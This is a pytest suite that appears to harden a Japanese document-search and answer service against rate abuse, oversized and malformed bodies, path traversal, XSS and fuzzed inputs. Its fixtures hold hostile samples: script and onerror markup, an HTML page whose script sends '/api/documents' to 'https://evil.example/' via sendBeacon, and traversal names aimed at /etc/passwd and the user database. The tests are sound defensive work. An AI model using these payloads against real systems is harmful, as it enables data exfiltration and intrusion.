"""Hostile and careless input through the real app: rate limits, oversized and malformed bodies, upload names that
try to leave the uploads folder, markup in questions and documents, `..` in file paths, odd dates; then
property-based fuzzing of every operation of the OpenAPI schema (schemathesis) and of path parameters
(hypothesis), asserting that nothing ends in a server error."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from access_fixtures import SECRET_SOURCES, bearer, build_store, settings_for
from fastapi.testclient import TestClient
from kotae_env import clear_kotae_env

from ingest.jobs import JobRunner
from ingest.pipeline import run_ingest
from kotae.auth import UserStore
from kotae.index.catalog import Catalog
from kotae.settings import load_settings
from service.app import create_app

if TYPE_CHECKING:
    from hypothesis import settings as HypothesisSettings

REPO = Path(__file__).resolve().parents[1]
STATIC = REPO / "service" / "web" / "static"
MARKUP = "<script>alert('kotae')</script><img src=x onerror=alert(1)>"
MARKUP_NOTE = f"窓口の受付時間に関するメモ\n{MARKUP}\n窓口の受付時間は午前八時三十分から午後五時十五分までとする。\n"
XSS_PAGE = """<!DOCTYPE html><html lang="ja"><head><meta charset="UTF-8"><title>窓口案内ページ</title></head>
<body><h1>窓口案内ページ</h1><p>本庁舎の窓口は土曜日も開庁しています。</p>
<script>fetch('/api/documents').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</script>
</body></html>
"""
EXTRA_DOCS = {"notes/markup.txt": MARKUP_NOTE, "web/窓口案内.html": XSS_PAGE}
RATE = 3
_names = itertools.count()


@pytest.fixture(autouse=True)
def _no_kotae_env(monkeypatch: pytest.MonkeyPatch) -> None:
    clear_kotae_env(monkeypatch)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The access store (corpus + confidential `hr/`) plus documents holding markup."""
    return build_store(tmp_path_factory.mktemp("hostile"), EXTRA_DOCS)


@pytest.fixture(scope="module")
def client(store: Path) -> Iterator[TestClient]:
    """KOTAE_RATE_LIMIT_PER_MINUTE=3 and KOTAE_MAX_BODY_KB=4 (the smallest allowed)."""
    settings = settings_for(store, KOTAE_RATE_LIMIT_PER_MINUTE=str(RATE), KOTAE_MAX_BODY_KB="4")
    with TestClient(create_app(settings)) as test_client:
        yield test_client


@pytest.fixture
def lenient(client: TestClient) -> TestClient:
    """The started app, answering server errors as 500 responses instead of raising them in the test."""
    return TestClient(client.app, raise_server_exceptions=False)


def new_user(store: Path, role: str = "staff", groups: tuple[str, ...] = ("総務課",)) -> dict[str, str]:
    """A fresh user (its own rate-limit bucket); returns its Authorization header."""
    return bearer(UserStore(store).add(f"user{next(_names)}", role, list(groups)))


def raw_upload(client: TestClient, headers: dict[str, str], filename: bytes, content: bytes) -> Any:
    """POST /api/admin/upload with a hand-built multipart body, so the file name goes exactly as given
    (HTTP clients percent-encode NUL and quotes)."""
    body = (b'--KOTAEBOUNDARY\r\nContent-Disposition: form-data; name="files"; filename="' + filename + b'"\r\n'
            b"Content-Type: text/plain\r\n\r\n" + content + b"\r\n--KOTAEBOUNDARY--\r\n")
    return client.post("/api/admin/upload", content=body,
                       headers={**headers, "content-type": "multipart/form-data; boundary=KOTAEBOUNDARY"})


def files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file()}


# --- rate limit and body size -------------------------------------------------------------------------------------


def test_rate_limit_is_per_user_with_retry_after(client: TestClient, store: Path) -> None:
    """The 4th request within a minute gets 429 with Retry-After; another user is unaffected."""
    first, second = new_user(store), new_user(store)
    for _ in range(RATE):
        assert client.post("/api/ask", json={"question": "窓口の受付時間は"}, headers=first).status_code == 200
    limited = client.post("/api/ask", json={"question": "窓口の受付時間は"}, headers=first)
    assert limited.status_code == 429
    assert int(limited.headers["retry-after"]) >= 1 and "too many requests" in limited.json()["detail"]
    assert client.post("/api/search", json={"query": "窓口"}, headers=first).status_code == 429  # one bucket
    assert client.post("/api/ask", json={"question": "窓口の受付時間は"}, headers=second).status_code == 200
    assert client.get("/api/documents", headers=first).status_code == 200  # reading lists is not limited


@pytest.mark.parametrize("path", ["/api/search", "/api/ask", "/api/draft", "/api/login", "/api/admin/folders"])
def test_body_over_the_limit_is_413(client: TestClient, store: Path, path: str) -> None:
    """A body over KOTAE_MAX_BODY_KB is refused with 413 before it is read."""
    body = json.dumps({"question": "窓口" * 1500}, ensure_ascii=False).encode()
    assert len(body) > 4 * 1024
    response = client.post(path, content=body, headers={**new_user(store, "admin"), "content-type": "application/json"})
    assert response.status_code == 413 and "larger than 4 KB" in response.json()["detail"]


def test_chunked_body_over_the_limit_is_413(client: TestClient, store: Path) -> None:
    """A body over the limit without Content-Length (chunked) is refused too."""
    body = json.dumps({"question": "窓口" * 1500}, ensure_ascii=False).encode()
    pieces = (body[i:i + 1024] for i in range(0, len(body), 1024))
    response = client.post("/api/ask", content=pieces, headers={**new_user(store), "content-type": "application/json"})
    assert response.status_code == 413


MALFORMED = [b"{", b"not json", b"\xff\xfe\x00\x00", '{"question": "窓口",}'.encode(), b"", b"{'question': 'x'}",
             b'{"question": "x"} trailing', b"[]", b"null", b'"x"', b"12", b'{"question": {}}', b'{"question": ["x"]}']


@pytest.mark.parametrize("path", ["/api/search", "/api/ask", "/api/draft", "/api/draft/docx", "/api/login",
                                  "/api/admin/folders"])
def test_malformed_json_is_422(client: TestClient, store: Path, path: str) -> None:
    """Broken or wrongly shaped JSON is a 422 that says where, never a 500."""
    statuses = {}
    for body in MALFORMED:  # a fresh user each: a signed-in request counts against the limit before validation
        headers = {**new_user(store, "admin"), "content-type": "application/json"}
        response = client.post(path, content=body, headers=headers)
        statuses[body] = response.status_code
        assert response.json()["detail"]
    assert set(statuses.values()) == {422}, statuses


@pytest.mark.parametrize(("path", "body"), [("/api/ask", b'{"question": NaN}'),
                                            ("/api/search", b'{"query": "x", "k": Infinity}'),
                                            ("/api/draft", b'{"question": 1e999}'),  # valid JSON, inf in Python
                                            ("/api/login", b'{"name": -Infinity, "password": "x"}')])
def test_nan_and_infinity_are_422(lenient: TestClient, store: Path, path: str, body: bytes) -> None:
    """The non-JSON literals NaN and Infinity are refused as bad input, not a server error."""
    response = lenient.post(path, content=body, headers={**new_user(store), "content-type": "application/json"})
    assert response.status_code == 422, response.status_code


@pytest.mark.parametrize("body", [b'{"query": "x", "filters": ' + b"[" * 1900 + b"]" * 1900 + b"}",
                                  b'{"query": "\xe7\xaa"}', b'{"query": "\xff"}'], ids=["nested", "cut", "latin1"])
def test_unparseable_json_is_a_client_error(client: TestClient, store: Path, body: bytes) -> None:
    """JSON nested past the parser's recursion limit, or not UTF-8, is refused as the client's error."""
    response = client.post("/api/search", content=body,
                           headers={**new_user(store), "content-type": "application/json"})
    assert 400 <= response.status_code < 500 and response.json()["detail"]


# --- uploads --------------------------------------------------------------------------------------------------------


TRAVERSAL_NAMES = [b"../../kotae-escape1.txt", b"..\\..\\kotae-escape2.txt", b"/etc/passwd", b"/tmp/kotae-escape3.txt",
                   b"sub/../../kotae-escape4.txt", b"C:\\Windows\\kotae-escape5.txt", b"..", b".", b"../",
                   b".hidden.txt", b"%2e%2e%2fkotae-escape6.txt", b"kotae\x00escape7.txt", b"../kotae\x00.txt",
                   b"kotae-escape8.txt\x00.pdf", b"../../" + "長".encode() * 100 + b".txt"]


def test_upload_names_never_write_outside_the_uploads_folder(client: TestClient, lenient: TestClient,
                                                              store: Path) -> None:
    """Whatever the file name, nothing is written outside the uploads folder (checked on the filesystem)."""
    admin = new_user(store, "admin")
    uploads = Path(client.get("/api/admin/folders", headers=admin).json()["uploads"])
    watched = store.parent.parent  # `../../` from the uploads folder
    before = files_under(watched)
    passwd = Path("/etc/passwd").read_bytes()
    saved: list[str] = []
    for name in TRAVERSAL_NAMES:
        response = raw_upload(lenient, admin, name, "窓口の受付時間のお知らせ".encode())
        if response.status_code == 200:
            saved += response.json()["saved"]
    created = files_under(watched) - before
    payloads = {p for p in created if p.read_bytes() == "窓口の受付時間のお知らせ".encode()}
    assert all(p.parent == uploads for p in payloads), sorted(map(str, payloads))
    assert all(p.is_relative_to(store) for p in created), sorted(map(str, created))  # plus the store's own records
    assert Path("/etc/passwd").read_bytes() == passwd
    assert not any(Path(f"/tmp/kotae-escape{i}.txt").exists() for i in range(1, 9))
    assert saved and all("/" not in n and "\\" not in n and "\x00" not in n and n not in (".", "..") for n in saved)
    assert {p.name for p in payloads} == set(saved)


@pytest.mark.parametrize("name", [b"kotae\x00escape.txt", "長".encode() * 84 + b".txt"], ids=["nul", "long"])
def test_unusable_upload_names_are_refused_not_500(lenient: TestClient, store: Path, name: bytes) -> None:
    """A file name the filesystem cannot take is refused with a reason, not a server error."""
    response = raw_upload(lenient, new_user(store, "admin"), name, "お知らせ".encode())
    assert response.status_code == 200, response.text
    assert response.json()["saved"] == [] and response.json()["refused"][0]["reason"]


# --- markup stays data ----------------------------------------------------------------------------------------------


def test_markup_in_a_question_comes_back_as_a_plain_string(client: TestClient, store: Path) -> None:
    """HTML/JS typed into a question is returned verbatim inside JSON, never interpreted or rewritten."""
    question = f"{MARKUP}窓口の受付時間は"
    response = client.post("/api/ask", json={"question": question}, headers=new_user(store))
    assert response.status_code == 200 and response.headers["content-type"] == "application/json"
    assert response.json()["question"] == question
    searched = client.post("/api/search", json={"query": question}, headers=new_user(store))
    assert searched.json()["query"] == question


def test_markup_in_a_document_comes_back_as_a_plain_string(client: TestClient, store: Path) -> None:
    """A document holding HTML/JS is returned as its own text inside JSON strings."""
    response = client.post("/api/search", json={"query": "窓口の受付時間に関するメモ", "filters": {
        "source_prefix": "notes/"}}, headers=new_user(store))
    assert response.headers["content-type"] == "application/json"
    hits = response.json()["hits"]
    assert hits and any(MARKUP in h["text"] for h in hits)
    assert all(MARKUP_NOTE[h["start"]:h["end"]] == h["text"] for h in hits)


DYNAMIC_HTML = re.compile(r"(\.innerHTML|\.outerHTML)\s*\+?=\s*(?!\s*(['\"])[^'\"`$]*\2\s*;?\s*$)|"
                          r"insertAdjacentHTML\s*\(|document\.write(ln)?\s*\(", re.MULTILINE)


def test_web_pages_never_assign_dynamic_html() -> None:
    """The web app's scripts put no dynamic HTML in the page (innerHTML & co. only with constant strings)."""
    scripts = sorted(STATIC.glob("*.js"))
    assert scripts
    found = [f"{path.name}:{path.read_text(encoding='utf-8')[:m.start()].count(chr(10)) + 1}: {line.strip()}"
             for path in scripts for m in DYNAMIC_HTML.finditer(path.read_text(encoding="utf-8"))
             for line in [path.read_text(encoding="utf-8")[m.start():].splitlines()[0]]]
    assert found == [], "dynamic HTML assignments:\n" + "\n".join(found)


def test_original_html_file_cannot_run_script_as_the_app(client: TestClient, store: Path) -> None:
    """An original HTML file is served so that its scripts cannot run in the app's origin."""
    response = client.get("/api/files/" + quote("web/窓口案内.html"), headers=new_user(store))
    assert response.status_code == 200 and b"<script>" in response.content
    csp = response.headers.get("content-security-policy", "")
    inert = ("sandbox" in csp or "script-src 'none'" in csp
             or response.headers.get("content-disposition", "").startswith("attachment")
             or not response.headers["content-type"].startswith("text/html"))
    assert inert, dict(response.headers)


XML_UNSAFE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")


def xml_unsafe(value: Any) -> bool:
    """Whether a JSON value holds a character XML 1.0 cannot carry."""
    if isinstance(value, str):
        return bool(XML_UNSAFE.search(value))
    if isinstance(value, dict):
        return any(xml_unsafe(k) or xml_unsafe(v) for k, v in value.items())
    return isinstance(value, list) and any(xml_unsafe(v) for v in value)


@pytest.mark.parametrize("body", [{"question": "書かない窓口の\x0c効果について"},
                                  {"question": "書かない窓口の効果について", "questioner": "桑原\x0b美穂"}],
                         ids=["question", "questioner"])
def test_control_characters_in_a_word_export_are_not_500(lenient: TestClient, store: Path,
                                                         body: dict[str, str]) -> None:
    """A pasted control character in the question does not break the Word export (as it does not the draft)."""
    assert lenient.post("/api/draft", json=body, headers=new_user(store)).status_code == 200
    response = lenient.post("/api/draft/docx", json=body, headers=new_user(store))
    assert response.status_code in (200, 422), response.status_code


# --- paths and filters --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["%2e%2e/store/users.sqlite", "..%2F..%2Fetc%2Fpasswd",
                                  "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "faq/..%2F..%2Fstore%2Faudit.sqlite",
                                  "faq/%2e%2e/" + quote(SECRET_SOURCES[0]),
                                  "/etc/passwd", "%2Fetc%2Fpasswd", "faq/..%5C..%5Cstore%5Cusers.sqlite",
                                  "hr/..%2F" + quote("faq/窓口対応FAQ.html")])
def test_files_with_dot_dot_are_404(client: TestClient, store: Path, path: str) -> None:
    """A source with `..` (encoded any way) or an absolute path is never served."""
    response = client.get("/api/files/" + path, headers=new_user(store))
    assert response.status_code == 404, (path, response.status_code)


def test_absurd_era_year_in_a_date_filter_is_422(lenient: TestClient, store: Path) -> None:
    """A date filter with an impossible year is the caller's error (422), naming the filter."""
    response = lenient.post("/api/search", json={"query": "窓口", "filters": {
        "date_from": "平成99999999999999999999年1月1日"}}, headers=new_user(store))
    assert response.status_code == 422 and "date_from" in response.text


def test_document_with_an_absurd_date_is_indexed_without_a_date(tmp_path: Path) -> None:
    """An impossible date is no date: the file is indexed without one, and the rest of the run goes on."""
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "good.txt").write_text("窓口のお知らせ\n令和6年4月1日\n窓口は午前八時半に開きます。\n", encoding="utf-8")
    (docs / "bad.txt").write_text("会議の記録\n平成99999999999999999999年1月1日\n本文。\n", encoding="utf-8")
    summary = run_ingest([docs], load_settings(tmp_path / "store"))
    assert summary.failed == [] and summary.documents == 2
    catalog = Catalog(tmp_path / "store" / "catalog.sqlite")
    assert catalog.documents()["bad.txt"].date is None and catalog.documents()["good.txt"].date == "2024-04-01"


# --- fuzzing --------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def fuzz_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store of its own: the fuzzer registers folders and uploads files."""
    return build_store(tmp_path_factory.mktemp("fuzz"))


def fuzz_settings() -> HypothesisSettings:
    from hypothesis import HealthCheck, Phase, settings

    # Deterministic (derandomize, no example database) and bounded; no shrinking, to stay within the time budget.
    return settings(max_examples=50, derandomize=True, database=None, deadline=None,
                    phases=[Phase.explicit, Phase.generate], suppress_health_check=list(HealthCheck))


def fuzz_operation(schemathesis: Any, operation: Any, headers: dict[str, str]) -> list[str]:
    """Run positive and negative generated cases of one operation; returns the first 5xx as a curl command."""
    from hypothesis import assume, given
    from hypothesis import strategies as st

    failures: list[str] = []
    cases = st.one_of(operation.as_strategy(schemathesis.GenerationMode.POSITIVE),
                      operation.as_strategy(schemathesis.GenerationMode.NEGATIVE))

    @fuzz_settings()
    @given(case=cases)
    def run(case: Any) -> None:
        if operation.path == "/api/draft/docx":
            assume(not xml_unsafe(case.body))  # a known bug, tested above
        if failures:
            return  # one failure per operation is enough to report
        try:
            status = str(case.call(headers=headers).status_code)
        except Exception as exc:  # the in-process transport re-raises the app's unhandled errors
            status = f"500 ({type(exc).__name__}: {str(exc)[:200]})"
        if status.startswith("5"):
            failures.append(f"{operation.label} -> {status}: {case.as_curl_command(headers=headers)}")

    run()
    return failures


@pytest.mark.slow
def test_fuzz_every_operation_never_answers_5xx(fuzz_store: Path) -> None:
    """schemathesis: generated valid and invalid calls of every API operation, as an admin, never answer 5xx."""
    # POST /api/admin/jobs is left out: it starts ingestion runs. 50 cases per operation, deterministic.
    schemathesis = pytest.importorskip("schemathesis")
    admin = bearer(UserStore(fuzz_store).add("fuzzadmin", "admin", ["DX推進課"]))
    settings = settings_for(fuzz_store, KOTAE_RATE_LIMIT_PER_MINUTE="0")
    app = create_app(settings, JobRunner(settings))
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    failures: list[str] = []
    tried: list[str] = []
    for result in schema.get_all_operations():
        operation = result.ok()
        if (operation.method.upper(), operation.path) == ("POST", "/api/admin/jobs"):
            continue
        tried.append(operation.label)
        failures += fuzz_operation(schemathesis, operation, admin)
    assert len(tried) >= 18, tried
    assert failures == [], "\n".join(failures)


@pytest.mark.slow
def test_fuzz_passage_and_file_paths_never_answer_5xx(client: TestClient, store: Path) -> None:
    """hypothesis: odd chunk ids and file paths never answer 5xx, and only visible indexed documents are served."""
    from hypothesis import example, given
    from hypothesis import strategies as st

    headers = new_user(store)  # 総務課: the hr/ documents exist but are not theirs
    visible = {d["source"] for d in client.get("/api/documents", headers=headers).json()["documents"]}
    names = ["..", ".", "", "hr", "faq", "store", "etc", "passwd", "users.sqlite", "\x00", "\\", "%2e%2e",
             "窓口対応FAQ.html", "人事異動内示.txt", "..\\..", "web", "窓口案内.html"]
    segments = st.lists(st.one_of(st.sampled_from(names), st.text(max_size=12)), min_size=1, max_size=6)

    @fuzz_settings()
    @given(segments=segments, encode_slash=st.booleans())
    @example(segments=["faq", "窓口対応FAQ.html"], encode_slash=False)  # served: visible
    @example(segments=["faq", "窓口対応FAQ.html"], encode_slash=True)
    @example(segments=["hr", "人事異動内示.txt"], encode_slash=True)  # not served: 人事課 only
    @example(segments=["faq", "..", "hr", "人事異動内示.txt"], encode_slash=True)
    def run(segments: list[str], encode_slash: bool) -> None:
        joined = "/".join(segments)
        path = quote(joined, safe="") if encode_slash else "/".join(quote(s, safe="") for s in segments)
        passage = client.get(f"/api/passages/{path}", headers=headers)
        original = client.get(f"/api/files/{path}", headers=headers)
        assert passage.status_code < 500 and original.status_code < 500, (path, passage.status_code,
                                                                           original.status_code)
        if passage.status_code == 200:
            assert passage.json()["source"] in visible, path
        if original.status_code == 200:
            assert joined in visible, path

    run()
